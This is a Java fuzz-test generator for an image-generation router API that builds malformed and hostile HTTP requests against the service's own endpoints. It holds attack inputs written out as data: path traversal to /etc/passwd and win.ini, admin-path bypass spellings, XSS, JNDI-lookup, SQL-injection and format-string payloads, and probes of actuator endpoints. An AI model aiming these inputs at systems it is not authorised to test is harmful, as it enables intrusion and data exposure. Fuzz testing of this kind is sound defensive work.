package dev.imagerouter.api;

import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.Random;

/**
 * Generates hostile requests for {@link FuzzTest} from a seeded {@link Random}. Each case mixes a
 * target (path and method), a body and headers:
 * <ul>
 *   <li>bodies: wrong types for every parameter, huge and tiny numbers, very long and odd Unicode
 *       strings, deep nesting, broken JSON, random bytes (invalid UTF-8), oversized bodies, unknown fields</li>
 *   <li>headers: odd and wrong content types and charsets, wrong, foreign and oversized keys, garbage
 *       sandbox faults, cache and idempotency headers, a bogus content encoding (no {@code Expect: 100-continue}:
 *       the JDK 17 client waits forever when the answer is not 100, JDK-8286171; {@link FuzzTest} sends it raw)</li>
 *   <li>paths: traversal and encoded names on the files endpoint, admin spellings, unknown and very long
 *       paths, query strings; methods GET, PUT, DELETE, PATCH, OPTIONS, HEAD, TRACE and made-up ones</li>
 * </ul>
 * Not thread-safe (one Random).
 */
final class FuzzCases {

    static final String CLIENT_KEY = "fuzz-client-key-000000000001";
    static final String ADMIN_KEY = "fuzz-admin-key-0000000000001";
    static final String WEBHOOK_KEY = "fuzz-webhook-key-00000000001";

    /** One request: how to build it and a short description for failure messages. */
    record Case(String method, String description, HttpRequest.Builder builder) {
        HttpRequest.Builder build() {
            return builder;
        }
    }

    private static final String[] FIELDS = {"prompt", "n", "size", "quality", "style", "negative_prompt", "seed",
            "response_format", "model", "output_format", "user"};
    private static final String[] METHODS = {"GET", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "BREW", "PROPFIND", "POST"};
    private static final String[] CONTENT_TYPES = {"application/json", "application/json; charset=utf-8", "application/json; charset=latin1",
            "application/json; charset=utf-16", "application/json; charset=bogus-charset", "application/json;;;", "text/plain",
            "multipart/form-data", "multipart/form-data; boundary=zz", "application/x-www-form-urlencoded", "*/*", "application/",
            "application/xml", "image/png", "application/json; boundary=", "APPLICATION/JSON", "text/json", "application/vnd.api+json"};

    private final Random random;
    private final String base;

    FuzzCases(Random random, String base) {
        this.random = random;
        this.base = base.endsWith("/") ? base.substring(0, base.length() - 1) : base;
    }

    Case next() {
        int kind = random.nextInt(100);
        if (kind < 55) {
            return generation();
        }
        if (kind < 67) {
            return files();
        }
        if (kind < 77) {
            return webhook();
        }
        if (kind < 85) {
            return admin();
        }
        return oddTarget();
    }

    // ---- targets ----

    private Case generation() {
        byte[] body = body();
        String contentType = random.nextInt(4) == 0 ? pick(CONTENT_TYPES) : "application/json";
        HttpRequest.Builder b = request("/v1/images/generations" + (random.nextInt(15) == 0 ? "?" + junkQuery() : ""));
        b.header("Content-Type", contentType);
        headers(b, true);
        // a body that happens to be valid generates: steer it to the fast OpenAI emulator
        b.header("X-Sandbox-Fault", random.nextInt(10) == 0 ? junk(40) : "leonardo=429");
        b.POST(HttpRequest.BodyPublishers.ofByteArray(body));
        return new Case("POST", "POST generations " + contentType + " body " + preview(body), b);
    }

    private Case files() {
        String[] names = {"..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5c..%5cwindows%5cwin.ini",
                "0".repeat(64) + ".png", "0".repeat(64) + ".png%00.txt", "0".repeat(63) + ".png", "F".repeat(64) + ".PNG",
                "0".repeat(64) + ".exe", "%00", "%ff%fe%fd", "%c3%28", "....//....//etc/passwd", "a".repeat(3000),
                encoded(randomBytes(random.nextInt(80)))};
        String name = pick(names);
        String path = "/v1/images/files/" + (random.nextBoolean() ? name : "../" + name);
        HttpRequest.Builder b = request(path);
        if (random.nextBoolean()) {
            b.header("If-None-Match", random.nextBoolean() ? "*" : junk(30));
        }
        headers(b, false);
        String method = random.nextInt(4) == 0 ? pick(METHODS) : "GET";
        method(b, method);
        return new Case(method, method + " " + abbreviate(path), b);
    }

    private Case webhook() {
        HttpRequest.Builder b = request("/v1/webhooks/leonardo");
        int auth = random.nextInt(4);
        if (auth == 0) {
            b.header("Authorization", "Bearer " + WEBHOOK_KEY);
        } else if (auth == 1) {
            b.header("Authorization", "Bearer " + junk(40));
        }
        b.header("Content-Type", random.nextInt(3) == 0 ? pick(CONTENT_TYPES) : "application/json");
        byte[] body = random.nextInt(3) == 0 ? ("{\"data\":{\"object\":{\"id\":" + value(0) + ",\"status\":" + value(0)
                + ",\"images\":" + value(0) + ",\"seed\":" + value(0) + "}}}").getBytes(StandardCharsets.UTF_8) : body();
        b.POST(HttpRequest.BodyPublishers.ofByteArray(body));
        return new Case("POST", "POST webhook auth=" + auth + " body " + preview(body), b);
    }

    private Case admin() {
        String[] paths = {"/admin/config", "/admin/chain", "/admin/reload", "//admin/config", "/ADMIN/chain", "/admin/../admin/config",
                "/admin/%2e%2e/config", "/admin/config?x=" + junkQuery(), "/admin/nothing"};
        String path = pick(paths);
        HttpRequest.Builder b = request(path);
        int auth = random.nextInt(4);
        if (auth == 0) {
            b.header("Authorization", "Bearer " + CLIENT_KEY);
        } else if (auth == 1) {
            b.header("Authorization", "Bearer " + junk(30));
        } else if (auth == 2 && !path.contains("reload")) {
            b.header("Authorization", "Bearer " + ADMIN_KEY);
        }
        String method = random.nextBoolean() ? "GET" : pick(METHODS);
        if (method.equals("POST") || method.equals("PUT") || method.equals("PATCH")) {
            b.header("Content-Type", pick(CONTENT_TYPES));
            b.method(method, HttpRequest.BodyPublishers.ofByteArray(body()));
        } else {
            method(b, method);
        }
        return new Case(method, method + " " + path + " auth=" + auth, b);
    }

    private Case oddTarget() {
        String[] paths = {"/", "/v1", "/v1/images", "/v1/images/generations/", "/v1//images/generations", "/v1/images/edits",
                "/v1/images/generations%00", "/%2e%2e/%2e%2e/etc/passwd", "/health/../admin/config", "/health",
                "/prometheus", "/beans", "/env", "/loggers", "/refresh", "/threaddump", "/" + "x".repeat(2000),
                "/" + encoded(randomBytes(random.nextInt(60))), "/sandbox/../admin/config", "/v1/webhooks/other"};
        String path = pick(paths);
        String method = pick(METHODS);
        HttpRequest.Builder b = request(path);
        headers(b, true);
        if (method.equals("POST") || method.equals("PUT") || method.equals("PATCH")) {
            b.header("Content-Type", pick(CONTENT_TYPES));
            b.method(method, HttpRequest.BodyPublishers.ofByteArray(body()));
        } else {
            method(b, method);
        }
        return new Case(method, method + " " + abbreviate(path), b);
    }

    // ---- bodies ----

    byte[] body() {
        int kind = random.nextInt(100);
        if (kind < 40) {
            return object(random.nextInt(4) + 1).getBytes(StandardCharsets.UTF_8);
        }
        if (kind < 60) {
            // a valid request with one parameter replaced by something hostile
            String field = pick(FIELDS);
            StringBuilder sb = new StringBuilder("{\"prompt\":\"fuzz ").append(random.nextInt(1000)).append("\",\"size\":\"256x256\"");
            if (!field.equals("prompt") && !field.equals("size")) {
                sb.append(",\"").append(field).append("\":").append(value(0));
            } else {
                sb = new StringBuilder("{\"").append(field).append("\":").append(value(0));
            }
            return sb.append('}').toString().getBytes(StandardCharsets.UTF_8);
        }
        if (kind < 70) {
            return brokenJson().getBytes(StandardCharsets.UTF_8);
        }
        if (kind < 80) {
            return randomBytes(random.nextInt(2000));
        }
        if (kind < 88) {
            return nested(random.nextInt(20_000) + 1).getBytes(StandardCharsets.UTF_8);
        }
        if (kind < 90) {
            return ("{\"prompt\":\"" + "x".repeat(1_048_576 + random.nextInt(100_000)) + "\"}").getBytes(StandardCharsets.UTF_8);
        }
        if (kind < 95) {
            return ("{\"prompt\":\"" + "\\u0000\\ud800\\udfff\u202e\uFEFF".repeat(random.nextInt(500) + 1) + "\"}")
                    .getBytes(StandardCharsets.UTF_8);
        }
        return new byte[0];
    }

    private String object(int fields) {
        StringBuilder sb = new StringBuilder("{");
        for (int i = 0; i < fields; i++) {
            if (i > 0) {
                sb.append(',');
            }
            String name = random.nextInt(6) == 0 ? junk(random.nextInt(30) + 1).replace("\"", "").replace("\\", "") : pick(FIELDS);
            sb.append('"').append(name).append("\":").append(value(0));
        }
        return sb.append('}').toString();
    }

    /** A JSON value chosen to hurt: wrong types, extremes, long and odd strings, nesting. */
    private String value(int depth) {
        switch (random.nextInt(depth > 2 ? 14 : 16)) {
            case 0: return "null";
            case 1: return random.nextBoolean() ? "true" : "false";
            case 2: return pick(new String[]{"0", "-1", "1.5", "4", "5", "-0", "1e309", "-1e309", "1e-400", "9223372036854775808",
                    "99999999999999999999999999999999", "0.0000001", "2e0", "1E2", "9999999998", "9999999999"});
            case 3: return "\"" + pick(new String[]{"", " ", "1024x1024", "256x256", "2048x2048", "0x0", "-256x256", "257x256",
                    "1024x1024\\n", "auto", "AUTO", "url", "b64_json", "png", "jpeg", "webp", "high", "CINEMATIC", "cinematic",
                    "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "%s%n%x", "' OR 1=1 --"}) + "\"";
            case 4: return "\"" + "a".repeat(random.nextInt(60_000)) + "\"";
            case 5: return "\"" + "\\u0000\\ud800 \\uDFFF \\u202e \uD83C\uDF0A \u0645\u0631\u062d\u0628\u0627".repeat(random.nextInt(50) + 1) + "\"";
            case 6: return "\"" + junk(random.nextInt(200)).replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
            case 7: return Long.toString(random.nextLong());
            case 8: return Double.toString(random.nextDouble() * Math.pow(10, random.nextInt(40) - 20));
            case 9: return "9".repeat(random.nextInt(3000) + 1);
            case 10: return "[" + value(depth + 1) + "," + value(depth + 1) + "]";
            case 11: return "{\"" + pick(FIELDS) + "\":" + value(depth + 1) + "}";
            case 12: return "[]";
            case 13: return "{}";
            case 14: return nested(random.nextInt(3000) + 1);
            default: return "\"fuzz " + random.nextInt() + "\"";
        }
    }

    private String nested(int depth) {
        boolean arrays = random.nextBoolean();
        StringBuilder sb = new StringBuilder(depth * 8 + 16);
        if (!arrays) {
            sb.append("{\"prompt\":");
        }
        for (int i = 0; i < depth; i++) {
            sb.append(arrays ? "[" : "{\"a\":");
        }
        sb.append("1");
        for (int i = 0; i < depth; i++) {
            sb.append(arrays ? "]" : "}");
        }
        if (!arrays) {
            sb.append('}');
        }
        return sb.toString();
    }

    private String brokenJson() {
        String valid = "{\"prompt\":\"a cat\",\"n\":1,\"size\":\"256x256\"}";
        return switch (random.nextInt(12)) {
            case 0 -> valid.substring(0, random.nextInt(valid.length()));
            case 1 -> valid + junk(10);
            case 2 -> "\uFEFF" + valid;
            case 3 -> "{'prompt':'single quotes'}";
            case 4 -> "{\"prompt\":\"a\" /* comment */}";
            case 5 -> "{\"prompt\":NaN}";
            case 6 -> "{\"prompt\":\"a\",\"n\":01}";
            case 7 -> "{\"prompt\":\"unterminated}";
            case 8 -> "{\"prompt\":\"a\",\"prompt\":\"b\",\"n\":1,\"n\":9}";
            case 9 -> "{prompt:\"a\"}";
            case 10 -> "{\"prompt\":\"a\\x41\"}";
            default -> valid.replace(':', random.nextBoolean() ? '=' : ';');
        };
    }

    // ---- headers ----

    private void headers(HttpRequest.Builder b, boolean withKey) {
        int auth = random.nextInt(20);
        if (withKey && auth < 16) {
            b.header("Authorization", "Bearer " + CLIENT_KEY); // most cases get past authentication to the parser
        } else if (auth == 16) {
            b.header("Authorization", "Bearer " + ADMIN_KEY);
        } else if (auth == 17) {
            b.header("Authorization", pick(new String[]{"Bearer", "Bearer  ", "Basic Zm9vOmJhcg==", "bearer " + junk(64),
                    "Bearer " + "k".repeat(4000), "Token " + CLIENT_KEY, "Bearer " + CLIENT_KEY + " extra"}));
        }
        if (random.nextInt(5) == 0) {
            b.header("Cache-Control", pick(new String[]{"no-cache", "no-store", junk(20), "max-age=-1"}));
        }
        if (random.nextInt(8) == 0) {
            b.header("Idempotency-Key", random.nextBoolean() ? junk(40) : "i".repeat(3000));
        }
        if (random.nextInt(8) == 0) {
            b.header("Accept", pick(new String[]{"image/png", "text/html", "*/*", "application/xml;q=0.9", ";;", junk(20)}));
        }
        if (random.nextInt(15) == 0) {
            b.header("Content-Encoding", pick(new String[]{"gzip", "deflate", "br", "identity", junk(8)}));
        }
        if (random.nextInt(15) == 0) {
            b.header("X-Forwarded-Proto", junk(10));
            b.header("X-Forwarded-For", junk(30));
        }
        if (random.nextInt(20) == 0) {
            b.header("X-" + junk(8).replaceAll("[^A-Za-z]", "a"), junk(200));
        }
    }

    private void method(HttpRequest.Builder b, String method) {
        switch (method) {
            case "GET" -> b.GET();
            case "DELETE" -> b.DELETE();
            case "POST" -> b.POST(HttpRequest.BodyPublishers.noBody());
            default -> b.method(method, HttpRequest.BodyPublishers.noBody());
        }
    }

    // ---- helpers ----

    private HttpRequest.Builder request(String path) {
        return HttpRequest.newBuilder(URI.create(base + path));
    }

    private String junkQuery() {
        return "q=" + encoded(randomBytes(random.nextInt(40))) + "&prompt=" + encoded(randomBytes(10));
    }

    /** Printable ASCII junk (what the JDK client lets into a header). */
    private String junk(int length) {
        StringBuilder sb = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            sb.append((char) (0x21 + random.nextInt(0x5e)));
        }
        return sb.toString();
    }

    private byte[] randomBytes(int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    /** Percent-encodes every byte, so any byte sequence (invalid UTF-8 included) makes a legal URI path. */
    private static String encoded(byte[] bytes) {
        StringBuilder sb = new StringBuilder();
        for (byte b : bytes) {
            sb.append('%').append(String.format("%02X", b & 0xff));
        }
        return sb.toString();
    }

    private String pick(String[] options) {
        return options[random.nextInt(options.length)];
    }

    private static String preview(byte[] body) {
        String text = new String(body, 0, Math.min(body.length, 60), StandardCharsets.ISO_8859_1).replaceAll("[^\\x20-\\x7e]", "?");
        return "(" + body.length + " bytes) " + text;
    }

    private static String abbreviate(String s) {
        return s.length() > 80 ? s.substring(0, 80) + "…" : s;
    }
}
